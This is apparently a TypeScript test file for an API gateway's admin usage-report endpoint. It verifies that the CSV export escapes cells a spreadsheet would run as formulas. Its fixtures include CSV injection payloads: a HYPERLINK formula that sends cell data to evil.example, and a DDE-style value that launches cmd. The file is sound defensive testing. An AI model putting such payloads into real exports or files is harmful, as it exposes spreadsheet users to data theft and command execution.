import { bearer } from '../helpers/admin-tokens';
import { ADMIN_SECRET, type TestGateway, localRequest, startTestGateway } from '../helpers/test-gateway';
import { bucketStartOf } from '../../src/usage/usage-query';

const HOUR = 3_600_000;

/** RFC 4180 records of a CSV document (quoted fields unquoted, doubled quotes undone). */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') record.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
    else field += c;
  }
  return records;
}

/** Issue #39 §2, §4 and §19: the edges of GET /admin/usage (getUsageReport). */
describe('usage report edges (getUsageReport)', () => {
  let t: TestGateway;
  let range = '';
  const owners = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1+1', '-2+3', '@SUM(1+1)', '\tTAB', '\rCR', 'plain@example.com'];
  const team = `@SUM(1+1)*cmd|' /C calc'!A0`;

  beforeAll(async () => {
    t = await startTestGateway();
    const from = bucketStartOf(t.clock.now(), 'hour');
    for (const owner of owners) {
      const { key } = await t.createKey({ owner, metadata: { team } });
      expect((await t.api.client(key, localRequest())).status).toBe(200);
    }
    range = `from=${new Date(from).toISOString()}&to=${new Date(from + HOUR).toISOString()}`;
  });
  afterAll(() => t.close());

  const usage = (query: string, headers: Record<string, string> = {}) =>
    t.api.send('get', `/admin/usage?${range}${query}`, { headers: { ...bearer(ADMIN_SECRET), ...headers } });

  it('CSV: a text cell that a spreadsheet would run as a formula starts with a quote; numbers and JSON stay as they are', async () => {
    const csv = await usage('&group_by=owner,metadata.team', { Accept: 'text/csv' });
    expect(csv.status).toBe(200);
    const [header, ...rows] = csvRecords(csv.text);
    expect(header?.slice(0, 3)).toEqual(['owner', 'metadata.team', 'requests']);
    const cells = new Map(rows.map((row) => [row[0], row]));
    for (const owner of owners) {
      const expected = owner === 'plain@example.com' ? owner : `'${owner}`;
      expect(cells.get(expected)?.slice(1, 3)).toEqual([`'${team}`, '1']);
    }
    // No cell of the document begins with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const json = await usage('&group_by=owner,metadata.team');
    expect(json.status).toBe(200);
    expect(json.body.data.map((row: { owner: string }) => row.owner).sort()).toEqual([...owners].sort());
    expect(json.body.data.every((row: { metadata: Record<string, string> }) => row.metadata.team === team)).toBe(true);
  });
});
